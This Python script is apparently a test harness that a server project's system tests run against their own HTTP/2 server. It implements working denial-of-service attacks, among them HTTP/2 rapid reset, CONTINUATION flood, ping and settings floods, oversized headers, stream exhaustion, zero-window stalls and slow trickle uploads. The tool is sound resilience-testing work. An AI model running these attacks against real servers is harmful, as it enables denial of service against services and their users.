#!/usr/bin/env python3
"""Hostile clients over TLS for tests/system/h2-abuse.sh. Each subcommand prints one JSON line.
Needs the `h2` package (ensure_venv). Certificates are not verified: the peer is the test's own.

  window1 HOST PORT PATH CONNS STREAMS PING_EVERY SECONDS
      CONNS HTTP/2 connections that announce SETTINGS_INITIAL_WINDOW_SIZE = 1, open up to STREAMS
      GETs of PATH each (as many as the server's SETTINGS_MAX_CONCURRENT_STREAMS allows), never
      send WINDOW_UPDATE, and PING every PING_EVERY seconds; reports how many streams each opened
      and when the server closed it (null: still open after SECONDS).
  ATTACK HOST PORT PATH SECONDS
      One of the attacks below, over and over for SECONDS: a connection is opened, abused until
      the server ends it (GOAWAY or EOF), and another opened at once. Reports the connections
      used, how each ended, and the longest any stayed open (the last one counts with its age
      when the time ran out), plus what the attack sent and got.
      rapid-reset    HEADERS and RST_STREAM at once, 100 streams a batch (CVE-2023-44487)
      serial-reset   one stream at a time: opened, its answer's HEADERS awaited, then reset
      continuation   HEADERS without END_HEADERS, then endless empty CONTINUATION frames
                     (CVE-2024-27316)
      continuation-full   the same, the CONTINUATION frames full (16 KiB of one header)
      ping-flood, settings-flood   PING / empty SETTINGS frames in bulk, answers read
      big-header     requests with one 80 KiB header, one after another (a little past the
                     server's 64 KiB limit: each is refused on its own, the connection stays)
      many-headers   requests with 2000 small headers (80 KiB as HPACK counts), the same
      streams-burst  GETs of PATH opened in bulk, never waiting, past the stream limit
      streams-serial GETs of PATH opened one at a time (each after the last one's answer or
                     refusal), never read past the first window, past the stream limit
  trickle HOST PORT PATH N EVERY SECONDS
      N HTTP/1.1 PATCH uploads to PATH that send one byte every EVERY seconds (Content-Length
      1000000); reports each one's status and when the server answered or closed (null: still
      going after SECONDS).
"""
import json
import os
import select
import socket
import ssl
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack


def tls(host, port, alpn):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols([alpn])
    raw = socket.create_connection((host, port), timeout=5)
    s = ctx.wrap_socket(raw, server_hostname=host)
    if s.selected_alpn_protocol() != alpn:
        raise SystemExit(f"server did not agree to {alpn}")
    return s


def h2_client(s, window=None):
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    initial = {h2.settings.SettingCodes.ENABLE_PUSH: 0}
    if window is not None:
        initial[h2.settings.SettingCodes.INITIAL_WINDOW_SIZE] = window
    c.local_settings = h2.settings.Settings(client=True, initial_values=initial)
    c.initiate_connection()
    s.sendall(c.data_to_send())
    # Read until the server's SETTINGS arrived, so its stream limit is known.
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        data = s.recv(65536)
        if not data:
            raise SystemExit("server closed during the preface")
        events = c.receive_data(data)
        out = c.data_to_send()
        if out:
            s.sendall(out)
        if any(isinstance(e, h2.events.RemoteSettingsChanged) for e in events):
            return c
    raise SystemExit("no SETTINGS from the server")


def headers(host, port, path):
    return [(":method", "GET"), (":scheme", "https"), (":authority", f"{host}:{port}"),
            (":path", path), ("user-agent", "h2-abuse")]


def window1(host, port, path, conns, streams, ping_every, seconds):
    results = [None] * conns
    start = time.monotonic()

    def run(i):
        r = {"opened": 0, "responses": 0, "bytes": 0, "closed_after": None, "goaway": False}
        results[i] = r
        s = tls(host, port, "h2")
        c = h2_client(s, window=1)
        for _ in range(streams):
            try:
                c.send_headers(c.get_next_available_stream_id(), headers(host, port, path),
                               end_stream=True)
                r["opened"] += 1
            except h2.exceptions.TooManyStreamsError:
                break
        s.sendall(c.data_to_send())
        s.settimeout(0.2)
        last_ping = time.monotonic()
        while time.monotonic() - start < seconds:
            if time.monotonic() - last_ping >= ping_every:
                c.ping(os.urandom(8))
                last_ping = time.monotonic()
            try:
                out = c.data_to_send()
                if out:
                    s.sendall(out)
                data = s.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                data = b""
            if not data:
                r["closed_after"] = round(time.monotonic() - start, 2)
                break
            try:
                events = c.receive_data(data)
            except h2.exceptions.ProtocolError:
                events = []
            for e in events:
                # Data is counted and never acknowledged: no WINDOW_UPDATE ever goes out.
                if isinstance(e, h2.events.ResponseReceived):
                    r["responses"] += 1
                elif isinstance(e, h2.events.DataReceived):
                    r["bytes"] += len(e.data)
                elif isinstance(e, h2.events.ConnectionTerminated):
                    r["goaway"] = True
        s.close()

    threads = [threading.Thread(target=run, args=(i,)) for i in range(conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    closed = [r["closed_after"] for r in results if r["closed_after"] is not None]
    print(json.dumps({
        "conns": conns,
        "opened": [r["opened"] for r in results],
        "bytes": sum(r["bytes"] for r in results),
        "closed": len(closed),
        "open": conns - len(closed),
        "max_closed_after": max(closed) if closed else None,
    }))


# --- Raw frames: what h2's state machine would refuse to send.

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
CANCEL = 8
REASONS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 7: "REFUSED_STREAM", 9: "COMPRESSION_ERROR",
           11: "ENHANCE_YOUR_CALM"}
# Ciphertext the attacker lets pile up before it waits for the server to read some: a server
# that stops reading is within its rights, and the attacker must not grow without end either.
BACKLOG = 256 * 1024


def frame(kind, flags, sid, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + sid.to_bytes(4, "big") + payload


def hpack_str(b):
    # HPACK string literal, no Huffman: the length as an integer with a 7-bit prefix.
    n = len(b)
    if n < 127:
        return bytes([n]) + b
    out, n = bytearray([127]), n - 127
    while n >= 128:
        out.append(n % 128 + 128)
        n //= 128
    out.append(n)
    return bytes(out) + b


def header_block(host, port, path, extra=()):
    """A request's header block that never touches the dynamic table (static :method GET and
    :scheme https, literals without indexing), so the same bytes can be sent again and again."""
    out = b"\x82\x87" + b"\x04" + hpack_str(path.encode()) + b"\x01" + hpack_str(f"{host}:{port}".encode())
    for name, value in (("user-agent", "h2-abuse"), *extra):
        out += b"\x00" + hpack_str(name.encode()) + hpack_str(value.encode())
    return out


class Raw:
    """One HTTP/2 connection over TLS, driven frame by frame in one thread. TLS runs over memory
    buffers, so a server that stops reading never leaves a frame written half-way."""

    def __init__(self, host, port):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        self.sock = socket.create_connection((host, port), timeout=5)
        # Each frame goes out when it is written, as a fast attacker's would.
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.inc, self.out = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = ctx.wrap_bio(self.inc, self.out, server_hostname=host)
        self.pending = bytearray()
        self.buf = bytearray()
        self.block = bytearray()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.window_updates = True
        self.ended = None
        self.ended_at = None
        self.max_streams = None
        self.answered = set()
        self.statuses = {}
        self.refused = 0
        self.data = 0
        self.opened = time.monotonic()
        deadline = self.opened + 5
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                if time.monotonic() > deadline or self.ended:
                    raise OSError("TLS handshake did not finish")
                self._io(0.1)
        if self.tls.selected_alpn_protocol() != "h2":
            raise SystemExit("server did not agree to h2")
        self.send(PREFACE + frame(SETTINGS, 0, 0, (2).to_bytes(2, "big") + (0).to_bytes(4, "big")))
        while self.max_streams is None and not self.ended and time.monotonic() < deadline:
            self.poll(0.1)

    def end(self, how):
        if self.ended is None:
            self.ended, self.ended_at = how, time.monotonic()

    def backlog(self):
        return len(self.pending) + self.out.pending

    def send(self, data):
        self.tls.write(data)
        self._io(0)

    def _io(self, timeout):
        self.pending += self.out.read()
        r, w, _ = select.select([self.sock], [self.sock] if self.pending else [], [], timeout)
        try:
            if w:
                n = self.sock.send(self.pending)
                del self.pending[:n]
            if r:
                data = self.sock.recv(262144)
                if data:
                    self.inc.write(data)
                else:
                    self.inc.write_eof()
                    self.end("EOF")
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.end("reset")

    def poll(self, timeout=0):
        """Moves bytes both ways and handles what the server sent."""
        self._io(timeout)
        while True:
            try:
                chunk = self.tls.read(262144)
                if not chunk:
                    self.end("EOF")
                    break
                self.buf += chunk
            except ssl.SSLWantReadError:
                break
            except (ssl.SSLZeroReturnError, ssl.SSLEOFError, ssl.SSLError):
                self.end("EOF")
                break
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                break
            kind, flags, sid = self.buf[3], self.buf[4], int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.buf[9:9 + n])
            del self.buf[:9 + n]
            self._frame(kind, flags, sid, payload)

    def _frame(self, kind, flags, sid, payload):
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                if int.from_bytes(payload[i:i + 2], "big") == 3:
                    self.max_streams = int.from_bytes(payload[i + 2:i + 6], "big")
            if self.max_streams is None:
                self.max_streams = 1 << 31
            self.tls.write(frame(SETTINGS, ACK, 0))
        elif kind == GOAWAY:
            code = int.from_bytes(payload[4:8], "big")
            self.end("GOAWAY " + REASONS.get(code, str(code)))
        elif kind == RST_STREAM:
            if int.from_bytes(payload[:4], "big") == 7:
                self.refused += 1
            self.answered.add(sid)
        elif kind in (HEADERS, CONTINUATION):
            if kind == HEADERS:
                pad = payload[0] if flags & PADDED else 0
                start = (1 if flags & PADDED else 0) + (5 if flags & PRIORITY_FLAG else 0)
                payload = payload[start:len(payload) - pad]
            self.block += payload
            if flags & END_HEADERS:
                for name, value in self.decoder.decode(bytes(self.block)):
                    if name == ":status":
                        self.statuses[value] = self.statuses.get(value, 0) + 1
                self.block.clear()
                self.answered.add(sid)
        elif kind == DATA:
            self.data += len(payload)
            if self.window_updates and payload:
                inc = len(payload).to_bytes(4, "big")
                self.tls.write(frame(WINDOW_UPDATE, 0, 0, inc) + frame(WINDOW_UPDATE, 0, sid, inc))

    def close(self):
        self.sock.close()


ATTACKS = ("rapid-reset", "serial-reset", "continuation", "continuation-full", "ping-flood",
           "settings-flood", "big-header", "many-headers", "streams-burst", "streams-serial")


def attack(kind, host, port, path, seconds):
    start = time.monotonic()
    deadline = start + seconds
    conns, longest, ended, sent = [], 0.0, {}, 0
    statuses, refused = {}, 0
    block = header_block(host, port, path)
    if kind == "big-header":
        oversize = header_block(host, port, path, (("x-big", "b" * 80 * 1024),))
    else:
        oversize = header_block(host, port, path, tuple((f"x-h{i}", "v") for i in range(2000)))

    def until(c, cond, limit):
        # Reads answers until cond() or the connection ends or the time is up.
        t = time.monotonic() + limit
        while not c.ended and not cond() and time.monotonic() < min(t, deadline):
            c.poll(0.005)

    while time.monotonic() < deadline:
        try:
            c = Raw(host, port)
        except (OSError, SystemExit):
            time.sleep(0.05)
            continue
        conns.append(c)
        sid = 1
        while not c.ended and time.monotonic() < deadline:
            if c.backlog() > BACKLOG:
                c.poll(0.01)
                continue
            if kind == "rapid-reset":
                batch = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block)
                                 + frame(RST_STREAM, 0, s, CANCEL.to_bytes(4, "big"))
                                 for s in range(sid, sid + 200, 2))
                sid += 200
                sent += 100
                c.send(batch)
            elif kind == "serial-reset":
                c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, block))
                until(c, lambda: sid in c.answered, 2)
                c.send(frame(RST_STREAM, 0, sid, CANCEL.to_bytes(4, "big")))
                sid += 2
                sent += 1
            elif kind in ("continuation", "continuation-full"):
                if sid == 1:
                    # Starts a header that claims 16 MiB, so a full CONTINUATION is never its end.
                    head = block + b"\x00" + hpack_str(b"x-flood") + b"\x7f" + bytes([0x81, 0xfe, 0xff, 0x07])
                    c.send(frame(HEADERS, END_STREAM, sid, head))
                    sid = 3
                payload = b"a" * 16384 if kind == "continuation-full" else b""
                c.send(b"".join(frame(CONTINUATION, 0, 1, payload) for _ in range(16)))
                sent += 16
            elif kind in ("ping-flood", "settings-flood"):
                one = frame(PING, 0, 0, os.urandom(8)) if kind == "ping-flood" else frame(SETTINGS, 0, 0)
                c.send(one * 200)
                sent += 200
            elif kind in ("big-header", "many-headers"):
                chunks = [oversize[i:i + 16384] for i in range(0, len(oversize), 16384)]
                frames = [frame(HEADERS, END_STREAM | (END_HEADERS if len(chunks) == 1 else 0), sid, chunks[0])]
                for i, ch in enumerate(chunks[1:], 2):
                    frames.append(frame(CONTINUATION, END_HEADERS if i == len(chunks) else 0, sid, ch))
                c.send(b"".join(frames))
                until(c, lambda: sid in c.answered, 2)
                sid += 2
                sent += 1
            elif kind == "streams-burst":
                c.window_updates = False
                c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block)
                                for s in range(sid, sid + 1000, 2)))
                sid += 1000
                sent += 500
            elif kind == "streams-serial":
                c.window_updates = False
                c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, block))
                until(c, lambda: sid in c.answered, 2)
                sid += 2
                sent += 1
            else:
                sys.exit(f"unknown attack {kind}")
            c.poll(0)
        until(c, lambda: False, 0)
        longest = max(longest, (c.ended_at or time.monotonic()) - c.opened)
        if c.ended:
            ended[c.ended] = ended.get(c.ended, 0) + 1
        for k, v in c.statuses.items():
            statuses[k] = statuses.get(k, 0) + v
        refused += c.refused
        c.close()
    print(json.dumps({
        "attack": kind, "conns": len(conns), "ended": ended,
        "still_open": sum(1 for c in conns if not c.ended),
        "longest_open": round(longest, 2), "sent": sent, "statuses": statuses, "refused": refused,
        "max_streams": conns[0].max_streams if conns else None,
    }))


def trickle(host, port, path, n, every, seconds):
    results = [None] * n
    start = time.monotonic()

    def run(i):
        s = tls(host, port, "http/1.1")
        s.sendall((f"PATCH {path[i % len(path)]} HTTP/1.1\r\nHost: {host}:{port}\r\n"
                   "Content-Type: application/octet-stream\r\nContent-Length: 1000000\r\n\r\n")
                  .encode())
        s.settimeout(every)
        data = b""
        sent = 0
        while time.monotonic() - start < seconds:
            try:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
                if b"\r\n\r\n" in data:
                    break
            except socket.timeout:
                try:
                    s.sendall(b"x")
                    sent += 1
                except OSError:
                    break
            except OSError:
                break
        after = round(time.monotonic() - start, 2) if time.monotonic() - start < seconds else None
        status = data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/") else None
        results[i] = {"status": status, "after": after, "sent": sent}
        s.close()

    threads = [threading.Thread(target=run, args=(i,)) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(json.dumps({"uploads": results,
                      "max_after": max((r["after"] or seconds) for r in results)}))


def main():
    cmd, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    a = sys.argv[4:]
    if cmd == "window1":
        window1(host, port, a[0], int(a[1]), int(a[2]), float(a[3]), float(a[4]))
    elif cmd in ATTACKS:
        attack(cmd, host, port, a[0], float(a[1]))
    elif cmd == "trickle":
        trickle(host, port, a[0].split(","), int(a[1]), float(a[2]), float(a[3]))
    else:
        sys.exit(f"unknown command {cmd}")


if __name__ == "__main__":
    main()
